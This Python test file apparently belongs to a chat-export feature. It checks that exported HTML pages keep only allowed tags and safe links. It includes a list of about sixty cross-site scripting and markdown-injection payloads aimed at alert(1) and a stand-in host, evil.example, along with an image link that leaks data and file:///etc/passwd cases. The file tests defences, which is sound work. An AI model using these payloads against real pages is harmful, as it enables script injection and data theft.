"""The exported page: looks right, and holds only our own tags whatever a model wrote (U1, U4)."""

from __future__ import annotations

import random
import re
import time
from html.parser import HTMLParser

import pytest

from app.chat.export import html
from app.chat.export.addresses import host_of, safe_address
from app.chat.export.code import coloured
from app.chat.export.to_html import index_page
from app.vault.rows import NewConversation, NewNode
from tests.chat.trees import chat, tree
from tests.quick import assert_quick

TAGS = {
    *("html", "head", "meta", "title", "style", "body", "header", "main", "article", "time", "div"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "p", "details", "summary", "ul", "ol", "li", "hr", "br"),
    *(
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "blockquote",
        "strong",
        "em",
        "s",
        "a",
        "span",
        "sup",
    ),
    *("code", "pre"),
}
ATTRIBUTES = {
    *("lang", "charset", "http-equiv", "content", "name", "class", "dir", "datetime"),
    *("href", "rel", "start"),
}
CALLS = ("alert(1)", "//evil.example", "javascript:alert(1)")
ATTACKS = tuple(
    form.replace("@", call)
    for call in CALLS
    for form in (
        "<script>@</script>",
        "<SCRIPT/SRC=@></SCRIPT>",
        "<img src=x onerror=@>",
        "<img src=`x`onerror=@>",
        "<svg onload=@>",
        "<svg><script>@</script></svg>",
        "<iframe src=@></iframe>",
        "<iframe srcdoc='<script>@</script>'>",
        "<object data=@>",
        "<embed src=@>",
        "<link rel=stylesheet href=@>",
        "<style>@import '@';</style>",
        "<base href=@>",
        "<form action=@><button>go",
        "<meta http-equiv=refresh content='0;url=@'>",
        "<a href=@>x</a>",
        "<body onload=@>",
        "<input autofocus onfocus=@>",
        "<details open ontoggle=@>",
        "<video><source onerror=@>",
        "<math><mi xlink:href=@>",
        "</style><script>@</script>",
        "</title><script>@</script>",
        "</div></article><script>@</script>",
        "--><script>@</script><!--",
        "<![CDATA[<script>@</script>]]>",
        "<?php @ ?>",
        "&lt;script&gt;@&lt;/script&gt;",
        "&#60;script&#62;@",
        "[x](@)",
        "[x](<@>)",
        "[x]( @)",
        "[x](data:text/html,<script>@</script>)",
        "[x](vbscript:@)",
        "[x](file:///etc/passwd)",
        "[x](java\nscript:@)",
        "[x](&#106;avascript:@)",
        '[x](http://a.example/"onmouseover="@)',
        "[x](http://a.example \"' onclick=@ x='\")",
        "[x]: @\n\n[x]",
        "<@>",
        "![x](@)",
        "![x](http://127.0.0.1/?q=secret)",
        '![x" onerror="@](http://a.example/a.png)',
        "![x](data:image/svg+xml,<svg onload=@>)",
        "```html\n<script>@</script>\n```",
        '```"><script>@</script>\nx\n```',
        "```js onload=@\n</code></pre><script>@</script>\n```",
        "`<script>@</script>`",
        "$</code><script>@</script>$",
        "$$\n</code><script>@</script>\n$$",
        "| a |\n|---|\n| <script>@</script> |",
        '| a |\n|:-:" onclick=@|\n| b |',
        "# <script>@</script>",
        "> <script>@</script>",
        "1. <script>@</script>",
        "<http://a.example/<script>@</script>>",
        "\x00<script>@</script>",
        "\ud83d<script>@</script>",
        "<scr\u200bipt>@</scr\u200bipt>",
    )
)


class Page(HTMLParser):
    """Collects what a browser would see."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.tags.append(("!comment", {}))

    def handle_pi(self, data: str) -> None:
        self.tags.append(("!instruction", {}))


def check(text: str) -> Page:
    page = Page(text)
    for tag, attributes in page.tags:
        assert tag in TAGS, tag
        assert set(attributes) <= ATTRIBUTES, (tag, attributes)
        assert re.match(r"(https?|mailto):", attributes.get("href") or "http:")
    assert sum(tag == "style" for tag, _ in page.tags) == 1
    return page


def answer(text: str, reasoning: str = "") -> NewConversation:
    node = NewNode(None, "assistant", text, reasoning)
    return NewConversation("T", 0, 0, messages=(node,))


def body(text: str) -> str:
    return html(answer(text)).partition("<main>")[2]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_becomes_markup_anywhere(attack: str) -> None:
    check(html(answer(attack, attack)))
    page = check(html(chat(attack, attack, title=attack)))
    assert not [tag for tag, _ in page.tags if tag in {"script", "img", "iframe", "svg"}]


def test_titles_in_the_list_of_chats_are_text() -> None:
    entries = [(f"{at} <a>.html", chat("x", title=attack)) for at, attack in enumerate(ATTACKS)]
    page = Page(index_page(entries))
    links = [attributes for tag, attributes in page.tags if tag == "a"]
    assert [link["href"] for link in links] == [f"{at}%20%3Ca%3E.html" for at in range(len(links))]
    assert {tag for tag, _ in page.tags} <= TAGS


def test_all_attacks_in_one_answer() -> None:
    check(body_page := html(answer("\n\n".join(ATTACKS))))
    assert "<script" not in body_page


@pytest.mark.parametrize("seed", range(40))
def test_any_chat_is_a_sound_page(seed: int) -> None:
    check(html(tree(random.Random(seed))))


def test_the_page_may_load_nothing() -> None:
    text = html(chat("Hi", "There"))
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', text)
    assert policy
    assert "default-src 'none'" in policy[1]
    assert "unsafe-inline" not in policy[1]
    assert "http" not in text.partition("<style>")[2].partition("</style>")[0].replace(
        'href^="http"', ""
    )


def test_markdown_becomes_html() -> None:
    text = body(
        "# Title\n\nSome **bold** and *thin* ~~not~~ `code`.\n\n- one\n- two\n\n3. three\n\n"
        "> quote\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n---\n\nline\\\nbreak"
    )
    for part in (
        '<h3 dir="auto">Title</h3>',
        "<strong>bold</strong>",
        "<em>thin</em>",
        "<s>not</s>",
        "<code>code</code>",
        "<ul>",
        '<ol start="3">',
        '<blockquote dir="auto">',
        '<th class="end" dir="auto">b</th>',
        "<hr>",
        "line<br>",
    ):
        assert part in text


def test_tasks_and_footnotes() -> None:
    text = body(
        "- [x] done\n- [ ] **open**\n- [link](https://a.example)\n\n[x] none\n\nA[^1]\n\n[^1]: <b>"
    )
    assert "☑ done" in text
    assert "☐ <strong>open</strong>" in text
    assert "[x] none" in text
    assert "A<sup>1</sup>" in text
    assert '<div class="note" dir="auto"><sup>1</sup> &lt;b&gt;</div>' in text


def test_code_that_takes_a_lexer_minutes_is_written_all_the_same() -> None:
    began = time.monotonic()
    words = "\n".join(["word " * 300] * 100)
    assert words.count("word") == coloured(words, "java").count("word")
    assert time.monotonic() - began < 10


def test_code_is_coloured_and_formulas_keep_their_source() -> None:
    text = body("```python\ndef f():\n    return '<b>'\n```\n\n$x^2$ and\n\n$$\n\\frac{a}{b}\n$$")
    assert '<span class="keyword">def</span>' in text
    assert "&lt;b&gt;" in text
    assert '<code class="tex">x^2</code>' in text
    assert '<code class="formula" dir="ltr">\\frac{a}{b}</code>' in text


def test_a_user_is_quoted_as_plain_text() -> None:
    text = html(chat("**not bold**\n  <b>"))
    assert '<div class="said" dir="auto">**not bold**\n  &lt;b&gt;</div>' in text


def test_pictures_are_words_and_links_are_plain_about_where_they_lead() -> None:
    text = body(
        "![a cat](https://evil.example/?q=secret) [site](https://müller.example/ä) [f](file:///x)"
    )
    assert "[image: a cat – not loaded from evil.example]" in text
    assert 'href="https://xn--mller-kva.example/%C3%A4" rel="noopener' in text
    assert "secret" not in text
    assert text.count("<a ") == 1


def test_reasoning_is_folded_and_rtl_is_left_to_the_text() -> None:
    text = html(answer("مرحبا", "hmm"))
    assert "<details" in text
    assert "<summary>Reasoning</summary>" in text
    assert '<p dir="auto">مرحبا</p>' in text


@pytest.mark.parametrize(
    "address",
    [
        *(
            "javascript:alert(1)",
            "data:text/html,x",
            "file:///etc/passwd",
            "//a.example",
            "vscode:x",
        ),
        *(
            "http://",
            "https:///x",
            "http://user@a.example/",
            "http://a b/",
            "http://a.example\\@b/",
        ),
        *("http://ä.example/", "mailto:", "http://a.example/\n", 'http://a.example/"x y'),
    ],
)
def test_unsafe_addresses_are_no_links(address: str) -> None:
    assert safe_address(address) == ""


def test_safe_addresses() -> None:
    for address in ("https://a.example", "HTTP://a.example:80/?q#f", "mailto:a@b.example"):
        assert safe_address(address) == address
    assert host_of("https://a.example:1/x") == "a.example"
    assert host_of("javascript:x") == ""


@pytest.mark.parametrize(
    "hostile",
    [
        *("[" * 100_000, "*a " * 50_000, ">" * 20_000, "> " * 20_000 + "x", "`" * 50_000),
        *("- " * 20_000, "|a" * 20_000, "$" * 50_000, "![" * 50_000, "<" * 100_000),
    ],
)
def test_hostile_markdown_is_linear(hostile: str) -> None:
    assert_quick(lambda: check(html(answer(hostile))), 5)
